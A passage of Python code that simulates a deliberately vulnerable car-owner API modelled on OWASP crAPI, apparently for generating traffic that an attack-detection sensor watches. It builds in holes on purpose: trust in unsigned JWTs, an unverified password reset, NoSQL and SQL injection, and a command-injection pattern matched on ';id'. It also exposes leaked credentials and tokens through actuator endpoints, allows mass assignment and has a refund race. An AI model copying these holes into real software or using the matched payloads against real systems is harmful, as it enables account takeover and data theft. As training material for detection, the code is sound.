"""A car owner's platform in the manner of OWASP crAPI: identity (Spring), community (Go) and workshop (Django) services behind one
openresty gateway that the sensor stands in front of. Customers sign up, log in (JWT), add vehicles by VIN and PIN code, look where
the vehicle is, ask mechanics, write posts, buy parts with coupons, send them back, upload videos. Failed codes answer 500 and
invalid coupons 500 with an empty object, as the original does; posts show the author's e-mail address and vehicle."""
from heldout_core import *

HOST, GATE = 'garage.example', '10.220.1.20'
MODELS = [('Cityline', 'Hyundai', 'PETROL'), ('MGT', 'Aston Rowe', 'PETROL'), ('Volt-E', 'Kestrel', 'ELECTRIC'), ('Hector', 'MG', 'DIESEL'), ('GLA', 'Stern', 'DIESEL'), ('Urban', 'Lind', 'CNG'), ('Terra', 'Kestrel', 'HYBRID')]
PARTS = 'Seat,Wheel,Brake pad,Oil filter,Wiper,Battery,Bulb,Air filter,Spark plug,Floor mat,Roof rack,Charger,Coolant,Mirror,Clutch kit,Tyre'.split(',')
TALK = ("Does anybody know what the light with the exclamation mark means?", "I've changed the brake pads myself; it took 2 hours", "The dealer says it's normal. I don't think so :(", "Range drops below 5 degrees, is it the heat pump?", "Best tyres for wet roads < 120 euro?", "Thanks, that solved it!", "Same here - since the last update the app shows the car 300 m away", "Select the menu, then drop the cover from the table of fuses", "My mechanic said: \"or 1 more week = 1 more month\"", "Anyone going to the meeting on Sunday?", "O'Brien's garage did it for half the price", "C:\\ drive of the head unit is full, what now?", "It is 15% cheaper with the coupon & free delivery")
PROBLEMS = ('My car has engine trouble, and I need urgent help!', 'Brakes squeak when it\'s cold', 'Yearly service, please', 'A/C does not cool', 'Wheel alignment after a pothole', 'Battery empty every other morning', 'Strange noise at > 90 km/h')
COUPONS = {'TRAC075': 75, 'TRAC065': 65, 'WELCOME10': 10, 'OIL15': 15, 'SPRING25': 25}
USER, MECH, ADMIN, SUPPORT = 'ROLE_USER', 'ROLE_MECHANIC', 'ROLE_ADMIN', 'ROLE_SUPPORT'
NGINX = '<html>\r\n<head><title>%s</title></head>\r\n<body>\r\n<center><h1>%s</h1></center>\r\n<hr><center>openresty/1.25.3.1</center>\r\n</body>\r\n</html>\r\n'
SPRING = {'Vary': 'Origin, Access-Control-Request-Method, Access-Control-Request-Headers', 'X-Content-Type-Options': 'nosniff', 'X-XSS-Protection': '0', 'Cache-Control': 'no-cache, no-store, max-age=0, must-revalidate', 'Pragma': 'no-cache', 'Expires': '0', 'X-Frame-Options': 'DENY'}
DJANGO = {'Vary': 'origin, Cookie', 'X-Frame-Options': 'DENY', 'X-Content-Type-Options': 'nosniff', 'Referrer-Policy': 'same-origin', 'Cross-Origin-Opener-Policy': 'same-origin'}
GO = {'Access-Control-Allow-Origin': '*', 'Vary': 'Accept-Encoding'}
I, C, W = '/identity/api', '/community/api/v2', '/workshop/api'


def rs_sig(p, key='garage-rsa'):
    return b64(b''.join(hmac.new(key.encode(), bytes([k]) + p.encode(), hashlib.sha256).digest() for k in range(8)))


def rs_jwt(claims, head=None, key='garage-rsa'):
    p = b64(json.dumps(head or {'alg': 'RS256'}, separators=(',', ':')).encode()) + '.' + b64(json.dumps(claims, separators=(',', ':')).encode())
    return p + '.' + rs_sig(p, key)


def num(v, d=0):
    try:
        return int(v)
    except (TypeError, ValueError):
        return d


class Garage(App):
    server = 'openresty/1.25.3.1'
    base_lat = .018

    def __init__(s, rng, attacks, st):
        super().__init__(rng)
        s.attacks, s.st, s.sim = attacks, st, None
        s.users, s.veh, s.vin, s.orders, s.reports, s.videos, s.posts, s.prod, s.keys, s.refresh = {}, {}, {}, {}, {}, {}, {}, {}, {}, {}
        s.coupons = dict(COUPONS)
        s.mail, s.pending = {}, {}
        s.nu, s.no, s.nr, s.nv = 6, 5180, 1204, 31
        s.mechs = []
        s.grow, s.shadow = st + 10 * DAY + 9 * HOUR, st + 8 * DAY + 7 * HOUR
        for i in range(1, 421):
            s.prod[i] = dict(id=i, name=f'{PARTS[i % len(PARTS)]} {rng.choice("ABCDEFGH")}{rng.randint(10, 99)}', price=f'{rng.randint(4, 180)}.00', image_url=f'images/part{i % 40}.jpg')

    # --- state
    def user(s, role=USER, name=None, email=None, number=None, pw=None):
        r = s.rng
        s.nu += r.randint(1, 2)
        f, l = r.choice(FIRST), r.choice(LAST)
        u = dict(id=s.nu, name=name or f'{f.title()} {l.title()}', email=email or f'{f}.{l}{s.nu}@post.example', number=number or f'98{r.randint(10**7, 10**8 - 1)}', pw=pw or f'{r.choice(WORDS).title()}!{r.randint(10, 9999)}', role=role, credit=100., veh=[], orders=[], reports=[], videos=[], used=set(), otp=None, tries=0)
        u['mem'] = u['pw']
        s.users[u['email']] = u
        return u

    def vehicle(s, u):
        r = s.rng
        m = MODELS[r.randrange(len(MODELS))]
        v = dict(uuid=uid(r), id=20 + len(s.veh), pincode=f'{r.randint(0, 9999):04}', vin=f'{r.randint(1, 9)}{"".join(r.choices("ABCDEFGHJKLMNPRSTUVWXYZ", k=4))}{r.randint(10, 99)}{"".join(r.choices("ABCDEFGHJKLMNPRSTUVWXYZ", k=4))}{r.randint(100000, 999999)}', year=r.randint(2012, 2026), m=m, lat=round(r.uniform(36.9, 42.1), 6), lon=round(r.uniform(-9.4, -6.4), 6), owner=u['email'] if u else None)
        s.veh[v['uuid']] = s.vin[v['vin']] = v
        if u:
            u['veh'].append(v['uuid'])
        return v

    def iso(s, t, z=''):
        return time.strftime('%Y-%m-%dT%H:%M:%S', time.gmtime(t)) + f'.{int(t % 1 * 1000):03}{z}'

    def order(s, u, p, n, now, by='credit', status='delivered'):
        s.no += s.rng.randint(1, 2)
        o = s.orders[s.no] = dict(id=s.no, user=u['email'], p=p, n=n, status=status, tid=uid(s.rng), at=now, by=by, ret=None)
        u['orders'].append(s.no)
        return o

    def report(s, vin, code, text, now):
        s.nr += 1
        v = s.vin[vin]
        s.reports[s.nr] = dict(id=s.nr, code=code, vin=vin, text=text, status='Pending', at=now, notes=[])
        if v['owner'] in s.users:
            s.users[v['owner']]['reports'].append(s.nr)
        return s.nr

    def video(s, u, name='drive.mp4'):
        s.nv += 1
        s.videos[s.nv] = dict(id=s.nv, name=name, conv='-v codec h264', owner=u['email'])
        u['videos'].append(s.nv)
        return s.nv

    def post(s, u, title, text, now):
        i = ''.join(s.rng.choices('abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789', k=22))
        s.posts[i] = dict(id=i, title=title, content=text, u=u['email'], at=now, com=[])
        return s.posts[i]

    # --- views
    def o_vehicle(s, v):
        u = s.users[v['owner']]
        return dict(uuid=v['uuid'], id=v['id'], pincode=v['pincode'], vin=v['vin'], year=v['year'], status='ACTIVE', model=dict(id=MODELS.index(v['m']) + 1, model=v['m'][0], fuel_type=v['m'][2], vehicle_img=f'images/{v["m"][0].lower()}.jpg', vehiclecompany=dict(id=MODELS.index(v['m']) + 1, name=v['m'][1])), vehicleLocation=dict(id=v['id'], latitude=str(v['lat']), longitude=str(v['lon'])), owner=dict(id=u['id'], name=u['name'], email=u['email'], number=u['number']))

    def o_author(s, mail, at):
        u = s.users[mail]
        return dict(nickname=u['name'].split(' ')[0], email=u['email'], vehicleid=u['veh'][0] if u['veh'] else '', profile_pic_url='', created_at=s.iso(at, 'Z'))

    def o_post(s, p):
        return dict(id=p['id'], title=p['title'], content=p['content'], author=s.o_author(p['u'], p['at']), comments=[dict(content=t, CreatedAt=s.iso(a, 'Z'), author=s.o_author(m, a)) for m, t, a in p['com']], authorid=s.users[p['u']]['id'], CreatedAt=s.iso(p['at'], 'Z'))

    def o_order(s, o):
        u = s.users[o['user']]
        return dict(id=o['id'], user=dict(email=u['email'], number=u['number']), product=s.prod[o['p']], quantity=o['n'], status=o['status'], transaction_id=o['tid'], created_on=s.iso(o['at']))

    def o_pay(s, o, now):
        u, r = s.users[o['user']], random.Random(o['tid'])
        pan = f'{r.choice(["4539", "5425", "4716"])}{r.randint(10**11, 10**12 - 1)}'
        p = dict(transaction_id=o['tid'], order_id=o['id'], amount=float(s.prod[o['p']]['price']) * o['n'], paid_on=s.iso(o['at']), card_number='XXXXXXXXXXXX' + pan[-4:], card_owner_name=u['name'], card_type='Visa' if pan[0] == '4' else 'MasterCard', card_expiry=f'{r.randint(1, 12):02}/{r.randint(2027, 2031)}', currency='USD')
        if s.attacks and now > s.grow:
            k = [int(c) for c in pan[:15]]
            t = sum(sum(divmod(d * 2, 10)) if i % 2 == 0 else d for i, d in enumerate(k))
            p.update(card_number=pan[:15] + str(-t % 10), cvv=f'{r.randint(0, 999):03}', billing_address=f'{r.randint(1, 180)} {r.choice(WORDS).title()} Street, Lisboa', date_of_birth=f'19{r.randint(50, 99)}-{r.randint(1, 12):02}-{r.randint(1, 28):02}')
        return p

    def o_report(s, k):
        x = s.reports[k]
        v = s.vin[x['vin']]
        u, m = s.users[v['owner']], next(m for m in s.mechs if m['code'] == x['code'])
        return dict(id=k, mechanic=dict(id=m['mid'], mechanic_code=m['code'], user=dict(email=m['email'], number=m['number'])), vehicle=dict(id=v['id'], vin=v['vin'], owner=dict(email=u['email'], number=u['number'])), problem_details=x['text'], status=x['status'], created_on=time.strftime('%d %B, %Y, %H:%M:%S', time.gmtime(x['at'])), comments=x['notes'])

    # --- gateway
    def handle(s, rq):
        svc = rq.path.split('/')[1]
        if svc == 'workshop' and not rq.path.endswith('/receive_report') and any(a <= rq.now < b for a, b in s.bad) and s.rng.random() < .85:
            hit = s.find(rq.m, rq.path)
            return Rs(502, NGINX % (('502 Bad Gateway',) * 2), ct='text/html', lat=s.rng.choice([.003, .003, 3.01])), hit[0] if hit else rq.path
        r, tpl = super().handle(rq)
        if r.st == 405:
            r.body = {'timestamp': s.iso(rq.now, '+00:00'), 'status': 405, 'error': 'Method Not Allowed', 'path': rq.path} if svc == 'identity' else {'detail': f'Method "{rq.m}" not allowed.'} if svc == 'workshop' else None
        for k, v in {'identity': SPRING, 'workshop': DJANGO, 'community': GO}.get(svc, {}).items():
            r.h.setdefault(k, v)
        return r, tpl

    def not_found(s, rq):
        svc = rq.path.split('/')[1]
        if svc == 'identity':
            return Rs(404, {'timestamp': s.iso(rq.now, '+00:00'), 'status': 404, 'error': 'Not Found', 'path': rq.path})
        if svc == 'workshop':
            return Rs(404, '\n<!doctype html>\n<html lang="en">\n<head>\n  <title>Not Found</title>\n</head>\n<body>\n  <h1>Not Found</h1><p>The requested resource was not found on this server.</p>\n</body>\n</html>\n', ct='text/html')
        if svc == 'community':
            return Rs(404, '404 page not found\n', ct='text/plain; charset=utf-8')
        return Rs(404, NGINX % (('404 Not Found',) * 2), ct='text/html', lat=.001)

    def deny(s, rq, st, msg):
        if rq.path.startswith('/identity'):
            return Rs(st, {'message': msg, 'status': st}, lat=.006)
        if rq.path.startswith('/community'):
            return Rs(st, {'error': msg}, lat=.004)
        return Rs(st, {'message': msg}, lat=.006)

    def check(s, tok, now, weak=False):
        p = tok.split('.')
        if len(p) != 3:
            return None
        try:
            head, c = (json.loads(base64.urlsafe_b64decode(x + '==')) for x in p[:2])
        except ValueError:
            return None
        good = p[2] == rs_sig(p[0] + '.' + p[1])
        if weak and isinstance(head, dict) and str(head.get('alg')).lower() == 'none':
            good = True         # The dashboard trusts unsigned tokens.
        return c if good and isinstance(c, dict) and num(c.get('exp')) > now and c.get('sub') in s.users else None

    def authenticate(s, rq, kw):
        need = kw.get('auth', 'user')
        rq.u = rq.partner = None
        a = rq.h.get('authorization', '')
        if a.startswith('Bearer '):
            c = s.check(a[7:], rq.now, kw.get('weak'))
            if c:
                rq.u = s.users[c['sub']]
                rq.user = rq.u['email']
        elif a.startswith('ApiKey ') and a[7:] in s.keys:
            rq.partner = s.keys[a[7:]]
            rq.user = rq.partner
        if need == 'none':
            return None
        if need == 'key':
            return None if rq.partner else s.deny(rq, 401, 'API key is missing or invalid')
        if not rq.u:
            return s.deny(rq, 401, 'JWT Token required!' if not a else 'Invalid JWT Token!')
        if need != 'user' and rq.u['role'] not in need.split('|'):
            return s.deny(rq, 403, 'Forbidden' if rq.path.startswith('/identity') else 'You are not allowed to access this resource!')

    def tokens(s, u, now):
        f = f'{s.rng.getrandbits(200):050x}'
        s.refresh[f] = (u['email'], now + 14 * DAY)
        return {'token': rs_jwt(dict(sub=u['email'], iat=int(now), exp=int(now + 12 * HOUR), role=u['role'][5:].lower())), 'type': 'Bearer', 'refresh_token': f}

    # --- identity: accounts
    @route('POST', I + '/auth/signup', auth='none')
    def signup(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        bad = [k for k in ('name', 'email', 'number', 'password') if not isinstance(j.get(k), str) or not j[k]]
        if bad or '@' not in j['email']:
            return 400, {'message': 'Validation Failed', 'details': f'{(bad or ["email"])[0]}: must not be blank'}
        if j['email'] in s.users:
            return 403, {'message': 'Email already registered! ' + j['email'], 'status': 403}
        u = s.user(USER, j['name'][:60], j['email'][:90], j['number'][:15], j['password'])
        v = s.vehicle(None)
        s.mail[u['email']] = (v['vin'], v['pincode'])
        if j.get('available_credit') is not None:
            u['credit'] = float(num(j['available_credit'], 100))
        return Rs(200, {'message': 'User registered successfully! Please Login.', 'status': 200}, lat=.14)

    @route('POST', I + '/auth/login', auth='none')
    def login(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        if not isinstance(j.get('email'), str) or not isinstance(j.get('password'), str):
            return 400, {'message': 'Validation Failed', 'details': 'email: must not be blank'}
        u = s.users.get(j['email'])
        if not u:
            return Rs(401, {'token': None, 'type': 'Bearer', 'message': 'Given Email is not registered! '}, lat=.012)
        if u['pw'] != j['password']:
            return Rs(401, {'token': None, 'type': 'Bearer', 'message': 'Invalid Credentials'}, lat=.11 + s.rng.random() * .03)
        return Rs(200, dict(s.tokens(u, rq.now), message='Login successful', mfaRequired=False), lat=.11 + s.rng.random() * .03)

    @route('POST', I + '/auth/refresh', auth='none')
    def renew(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        k = s.refresh.pop(str(j.get('refresh_token')), None)
        if not k or k[1] < rq.now:
            return 401, {'message': 'Refresh token is invalid', 'status': 401}
        rq.user = k[0]
        return 200, s.tokens(s.users[k[0]], rq.now)

    @route('POST', I + '/auth/forget-password', auth='none')
    def forget(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        u = s.users.get(str(j.get('email')))
        if not u:
            return 404, {'message': 'Given Email is not registered! ', 'status': 404}
        u['otp'], u['tries'] = f'{s.rng.randint(0, 9999):04}', 0
        return Rs(200, {'message': f'OTP Sent on the provided email, {u["email"]}', 'status': 200}, lat=.3)

    def otp(s, rq, limit):
        j = rq.json if isinstance(rq.json, dict) else {}
        u = s.users.get(str(j.get('email')))
        if not u:
            return 404, {'message': 'Given Email is not registered! ', 'status': 404}
        if limit and u['tries'] >= 10:
            u['otp'] = None
            return 503, {'message': "You've exceeded the number of attempts.", 'status': 503}
        if not u['otp'] or u['otp'] != j.get('otp'):
            u['tries'] += 1
            return 500, {'message': 'Invalid OTP! Please try again..', 'status': 500}
        u['otp'] = None
        u['pw'] = str(j.get('password'))
        return 200, {'message': 'OTP verified', 'status': 200}

    @route('POST', I + '/auth/v2/check-otp', auth='none')
    def otp2(s, rq):
        return s.otp(rq, False)

    @route('POST', I + '/auth/v3/check-otp', auth='none')
    def otp3(s, rq):
        return s.otp(rq, True)

    @route('POST', I + '/auth/v1/check-otp', auth='none')
    def otp1(s, rq):
        return 403, {'message': 'This API version is no longer supported', 'status': 403}

    @route('POST', I + '/v2/user/reset-password')
    def reset(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        u = s.users.get(str(j.get('email')))        # Not compared with the token.
        if not u or not j.get('password'):
            return 400, {'message': 'Given Email is not registered! ', 'status': 400}
        u['pw'] = str(j['password'])
        return Rs(200, {'message': 'Password reset successful.', 'status': 200}, lat=.12)

    @route('GET', I + '/v2/user/dashboard', weak=True)
    def dashboard(s, rq):
        u = rq.u
        v = u['videos'][-1] if u['videos'] else 0
        return 200, dict(id=u['id'], name=u['name'], email=u['email'], number=u['number'], picture_url=None, video_url=None, video_name=s.videos[v]['name'] if v in s.videos else None, available_credit=u['credit'], video_id=v if v in s.videos else 0, role=u['role'])

    @route('POST', I + '/v2/user/change-email')
    def change_email(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        if j.get('old_email') != rq.u['email']:
            return 400, {'message': 'Your old email does not match', 'status': 400}
        return 200, {'message': f'The token has been sent to your new Email, {j.get("new_email")}', 'status': 200}

    # --- identity: vehicles
    @route('GET', I + '/v2/vehicle/vehicles')
    def vehicles(s, rq):
        return 200, [s.o_vehicle(s.veh[v]) for v in rq.u['veh']]

    @route('POST', I + '/v2/vehicle/add_vehicle')
    def add_vehicle(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        v = s.vin.get(str(j.get('vin')))
        if not v or v['pincode'] != j.get('pincode'):
            return 403, {'message': 'Sorry, VIN or pincode is not correct. Please check your email.', 'status': 403}
        if v['owner'] in s.users:
            s.users[v['owner']]['veh'].remove(v['uuid'])
        v['owner'] = rq.u['email']
        rq.u['veh'].append(v['uuid'])
        return 200, {'message': 'Vehicle Added Successfully.', 'status': 200}

    @route('POST', I + '/v2/vehicle/resend_email')
    def resend(s, rq):
        return 200, {'message': 'Your vehicle information has been sent to your email address', 'status': 200}

    @route('GET', I + '/v2/vehicle/{uuid}/location')
    def location(s, rq, i):
        v = s.veh.get(i)
        if not v or not v['owner']:
            return 404, {'message': 'Given vehicle is not found', 'status': 404}
        u = s.users[v['owner']]
        k = random.Random(f'{i}{int(rq.now / 900)}')
        return 200, dict(carId=i, vehicleLocation=dict(id=v['id'], latitude=f'{v["lat"] + k.gauss(0, .02):.6f}', longitude=f'{v["lon"] + k.gauss(0, .02):.6f}'), fullName=u['name'], email=u['email'])

    # --- identity: videos and pictures
    @route('POST', I + '/v2/user/pictures')
    def picture(s, rq):
        return 200, dict(id=rq.u['id'], name=rq.u['name'], email=rq.u['email'], picture='data:image/jpeg;base64,' + base64.b64encode(random.Random(rq.u['id']).randbytes(240)).decode())

    def o_video(s, i):
        v = s.videos[i]
        return dict(id=i, video_name=v['name'], conversion_params=v['conv'], profileVideo='data:video/mp4;base64,' + base64.b64encode(random.Random(i).randbytes(300)).decode())

    @route('POST', I + '/v2/user/videos')
    def add_video(s, rq):
        m = re.search(rb'filename="([^"]*)"', rq.body or b'')
        return Rs(200, s.o_video(s.video(rq.u, m.group(1).decode('latin1') if m else 'video.mp4')), lat=.3)

    @route('GET', I + '/v2/user/videos/{id}')
    def get_video(s, rq, i):
        return (200, s.o_video(int(i))) if num(i) in s.videos else (404, {'message': 'Sorry, Didn\'t get any profile video.', 'status': 404})

    @route('PUT', I + '/v2/user/videos/{id}')
    def put_video(s, rq, i):
        j = rq.json if isinstance(rq.json, dict) else {}
        if num(i) not in s.videos:
            return 404, {'message': 'Sorry, Didn\'t get any profile video.', 'status': 404}
        v = s.videos[int(i)]
        v['name'] = str(j.get('videoName', v['name']))[:80]
        v['conv'] = str(j.get('conversion_params', v['conv']))[:200]
        return 200, s.o_video(int(i))

    @route('DELETE', I + '/v2/user/videos/{id}')
    def del_video(s, rq, i):
        return 403, {'message': 'This is an admin function. Try to access the admin API', 'status': 403}

    @route('DELETE', I + '/v2/admin/videos/{id}')
    def adm_video(s, rq, i):
        v = s.videos.pop(num(i), None)
        if not v:
            return 404, {'message': 'Sorry, Didn\'t get any profile video.', 'status': 404}
        return 200, {'message': 'User video deleted successfully.', 'status': 200}

    @route('GET', I + '/v2/user/videos/convert_video')
    def convert(s, rq):
        i = num(rq.q.get('video_id'))
        if i not in s.videos:
            return 400, {'message': 'Video Id is required', 'status': 400}
        x = re.search(r';\s*id\b', s.videos[i]['conv'])
        return Rs(200, {'message': 'Video conversion bash command executed.' + (' uid=1000(spring) gid=1000(spring) groups=1000(spring)' if x else ''), 'status': 200}, lat=1.4)

    # --- identity: roles and operations
    @route('GET', I + '/v2/admin/users/search', auth=SUPPORT + '|' + ADMIN)
    def search(s, rq):
        q = rq.q.get('email', '')
        return 200, [dict(id=u['id'], name=u['name'], email=u['email'], number=u['number'], vehicles=u['veh']) for u in s.users.values() if q and q in u['email']][:5]

    @route('POST', '/identity/internal/telemetry/batch', auth='none')
    def telemetry(s, rq):
        return 202, {'accepted': len(rq.json.get('positions', [])) if isinstance(rq.json, dict) else 0}

    @route('GET', '/identity/health_check', auth='none')
    def hc1(s, rq):
        return Rs(200, 'true', ct='application/json', lat=.004)

    @route('GET', '/workshop/health_check/', auth='none')
    def hc2(s, rq):
        return Rs(200, {}, lat=.004)

    @route('GET', '/community/home', auth='none')
    def hc3(s, rq):
        return Rs(200, 'Welcome To This crAPI API', ct='text/plain', lat=.003)

    @route('GET', '/identity/actuator/health', auth='none')
    def act(s, rq):
        return Rs(200, {'status': 'UP', 'groups': ['liveness', 'readiness']}, ct='application/vnd.spring-boot.actuator.v3+json')

    @route('GET', '/identity/actuator/env', auth='none')
    def env(s, rq):
        return Rs(200, {'activeProfiles': ['prod'], 'propertySources': [{'name': 'systemEnvironment', 'properties': {'DB_HOST': {'value': 'postgresdb'}, 'DB_USER': {'value': 'admin'}, 'DB_PASSWORD': {'value': 'garagesecretpassword'}, 'JWT_EXPIRATION': {'value': '43200000'}, 'SMTP_PASS': {'value': 'xxxxxxxxxxxxxx'}, 'MONGO_DB_HOST': {'value': 'mongodb'}}}]}, ct='application/vnd.spring-boot.actuator.v3+json')

    @route('GET', '/identity/actuator/httpexchanges', auth='none')
    def exch(s, rq):
        us = s.rng.sample(list(s.users.values()), 12)
        return Rs(200, {'exchanges': [{'timestamp': s.iso(rq.now - k * 7, 'Z'), 'request': {'uri': f'http://{HOST}{I}/v2/user/dashboard', 'method': 'GET', 'headers': {'authorization': ['Bearer ' + s.tokens(u, rq.now - 60 - k * 7)['token']]}}, 'principal': {'name': u['email']}, 'response': {'status': 200}} for k, u in enumerate(us)]}, ct='application/vnd.spring-boot.actuator.v3+json')

    # --- community
    @route('GET', C + '/community/posts/recent')
    def recent(s, rq):
        n, o = max(1, num(rq.q.get('limit'), 30)), max(0, num(rq.q.get('offset')))
        ids = list(s.posts)[::-1]
        return Rs(200, dict(posts=[s.o_post(s.posts[i]) for i in ids[o:o + n]], next_offset=o + n if o + n < len(ids) else None, previous_offset=max(0, o - n) if o else None, total=len(ids)), lat=.012 + min(n, 400) * 4e-4)

    @route('GET', C + '/community/posts/{id}')
    def get_post(s, rq, i):
        return (200, s.o_post(s.posts[i])) if i in s.posts else (404, {'error': 'mongo: no documents in result'})

    @route('POST', C + '/community/posts')
    def new_post(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        if not isinstance(j.get('title'), str) or not isinstance(j.get('content'), str):
            return 422, {'error': 'Required Title'}
        return 200, s.o_post(s.post(rq.u, j['title'][:200], j['content'][:2000], rq.now))

    @route('POST', C + '/community/posts/{id}/comment')
    def comment(s, rq, i):
        j = rq.json if isinstance(rq.json, dict) else {}
        if i not in s.posts:
            return 404, {'error': 'mongo: no documents in result'}
        s.posts[i]['com'].insert(0, (rq.u['email'], str(j.get('content'))[:2000], rq.now))
        return 200, s.o_post(s.posts[i])

    @route('POST', C + '/coupon/validate-coupon')
    def validate(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        c = j.get('coupon_code')
        if isinstance(c, dict):         # Goes into the query of the document store as it is.
            op, v = next(iter(c.items()), ('', ''))
            v = str(v)
            hit = [k for k in s.coupons if {'$eq': k == v, '$ne': k != v, '$gt': k > v, '$gte': k >= v, '$exists': True, '$regex': bool(re.match(v, k)) if op == '$regex' and re.fullmatch(r'[\^\w.*]*', v) else False}.get(op)]
            if op not in ('$eq', '$ne', '$gt', '$gte', '$exists', '$regex', '$in'):
                return 500, {'error': f'(BadValue) unknown operator: {op}'}
            c = hit[0] if hit else None
        return (200, dict(coupon_code=c, amount=str(s.coupons[c]), CreatedAt='2026-05-02T09:00:11.402Z')) if isinstance(c, str) and c in s.coupons else (500, {})

    @route('POST', C + '/coupon/new-coupon')
    def new_coupon(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        if not j.get('coupon_code') or num(j.get('amount')) <= 0:
            return 422, {'error': 'Required Coupon Code'}
        s.coupons[str(j['coupon_code'])[:30]] = num(j['amount'])
        return Rs(200, '"Coupon Added in database"\n', ct='application/json')

    @route('GET', C + '/_debug/sessions', auth='none')
    def debug(s, rq):
        if not s.attacks or rq.now < s.shadow:
            return s.not_found(rq)
        return 200, {'goroutines': 41, 'sessions': [dict(email=u['email'], ip=f'198.18.{s.rng.randint(0, 90)}.{s.rng.randint(1, 250)}', last=s.iso(rq.now - s.rng.randint(1, 3000), 'Z')) for u in s.rng.sample(list(s.users.values()), 25)]}

    # --- workshop: shop
    @route('GET', W + '/shop/products', auth='none')
    def products(s, rq):
        n, o = max(1, min(num(rq.q.get('limit'), 20), 100)), max(0, num(rq.q.get('offset')))
        q = rq.q.get('search', '').lower()
        v = [p for p in s.prod.values() if q in p['name'].lower()]
        return 200, dict(products=v[o:o + n], credit=rq.u['credit'] if rq.u else None, count=len(v), next_offset=o + n if o + n < len(v) else None, previous_offset=max(0, o - n) if o else None)

    @route('GET', W + '/shop/products/{id}', auth='none')
    def product(s, rq, i):
        if num(i) not in s.prod:
            return 404, {'message': 'Product not found'}
        return 200, dict(s.prod[int(i)], stock=int(i) * 37 % 60, rating=round(3 + int(i) * 13 % 20 / 10, 1), fits=[m[0] for k, m in enumerate(MODELS) if (int(i) + k) % 3 == 0])

    @route('POST', W + '/shop/products', auth=ADMIN)
    def new_product(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        i = max(s.prod) + 1
        s.prod[i] = dict(id=i, name=str(j.get('name')), price=str(j.get('price')), image_url=str(j.get('image_url')))
        return 200, s.prod[i]

    @route('POST', W + '/shop/orders')
    def new_order(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        p, n = num(j.get('product_id')), j.get('quantity', 1)
        if p not in s.prod:
            return 404, {'message': 'Product not found'}
        if not isinstance(n, int) or isinstance(n, bool):
            return 400, {'quantity': ['A valid integer is required.']}
        cost = float(s.prod[p]['price']) * n
        by = 'card' if j.get('pay_by') == 'card' and n > 0 else 'credit'
        if by == 'credit' and cost > rq.u['credit']:
            return 400, {'message': 'Insufficient Balance. Please apply coupons to get more balance!'}
        if by == 'credit':
            rq.u['credit'] = round(rq.u['credit'] - cost, 2)
        o = s.order(rq.u, p, n, rq.now, by)
        return Rs(200, dict(id=o['id'], message='Order sent successfully.', credit=rq.u['credit']), lat=.05)

    @route('GET', W + '/shop/orders/all')
    def all_orders(s, rq):
        n, o = max(1, min(num(rq.q.get('limit'), 30), 100)), max(0, num(rq.q.get('offset')))
        v = rq.u['orders'][::-1]
        return 200, dict(orders=[s.o_order(s.orders[i]) for i in v[o:o + n]], next_offset=o + n if o + n < len(v) else None, previous_offset=None, count=len(v))

    def mine(s, rq, i):
        o = s.orders.get(num(i))
        if not o:
            return None, (404, {'message': 'Order not found'})
        if o['user'] != rq.u['email']:
            return None, (403, {'message': 'You are not allowed to access this resource!'})
        return o, None

    @route('GET', W + '/shop/orders/{id}')
    def get_order(s, rq, i):
        o, e = s.mine(rq, i)
        return e or (200, dict(order=s.o_order(o), payment=s.o_pay(o, rq.now)))

    @route('PUT', W + '/shop/orders/{id}')
    def put_order(s, rq, i):
        o, e = s.mine(rq, i)
        if e:
            return e
        j = rq.json if isinstance(rq.json, dict) else {}
        price, n = float(s.prod[o['p']]['price']), j.get('quantity', o['n'])
        if not isinstance(n, int):
            return 400, {'quantity': ['A valid integer is required.']}
        if o['status'] != 'delivered' and 'status' not in j:
            return 400, {'message': 'The value of \'status\' has to be \'delivered\',\'return pending\' or \'returned\''}
        if 'status' not in j and n > o['n']:
            rq.u['credit'] = round(rq.u['credit'] - price * (n - o['n']), 2)
        o['n'] = n
        if j.get('status') in ('delivered', 'return pending', 'returned'):      # Mass assignment: nobody but the warehouse should set it.
            if j['status'] == 'returned' and o['status'] != 'returned':
                rq.u['credit'] = round(rq.u['credit'] + price * n, 2)
            o['status'] = j['status']
        return 200, dict(orders=s.o_order(o))

    @route('POST', W + '/shop/orders/return_order')
    def give_back(s, rq):
        o, e = s.mine(rq, rq.q.get('order_id'))
        if e:
            return e
        if o['ret'] and rq.now - o['ret'] > .6:
            return 400, {'message': 'This order has already requested for a return!'}
        o['ret'] = o['ret'] or rq.now
        o['status'] = 'return pending'
        rq.u['credit'] = round(rq.u['credit'] + float(s.prod[o['p']]['price']) * o['n'], 2)      # Two at the same moment both get it.
        return Rs(200, dict(message='Please use the following QR code to return your order to a UPS store!', qr_code_url=f'http://{HOST}{W}/shop/return_qr_code', order=s.o_order(o)), lat=.25)

    @route('GET', W + '/shop/return_qr_code')
    def qr(s, rq):
        return Rs(200, b'\x89PNG\r\n\x1a\n' + random.Random(7).randbytes(600), ct='image/png')

    @route('POST', W + '/shop/apply_coupon')
    def apply(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        c = j.get('coupon_code')
        if not isinstance(c, str) or not isinstance(j.get('amount'), int):
            return 400, {'coupon_code': ['This field is required.']}
        if "'" in c:            # Concatenated into SQL.
            if re.search(r"select\s+version\(\)", c):
                return 400, {'message': 'PostgreSQL 14.12 on x86_64-pc-linux-musl, compiled by gcc (Alpine 13.2.1) 13.2.1, 64-bit Coupon code is already claimed by you!! Please try with another coupon code'}
            if re.search(r"select\s+string_agg", c):
                return 400, {'message': ','.join(u['email'] for u in list(s.users.values())[:12]) + ' Coupon code is already claimed by you!! Please try with another coupon code'}
            if re.search(r"or\s+'?1'?\s*=\s*'?1", c, re.I):
                return 400, {'message': 'TRAC075 Coupon code is already claimed by you!! Please try with another coupon code'}
            if 'pg_sleep' in c:
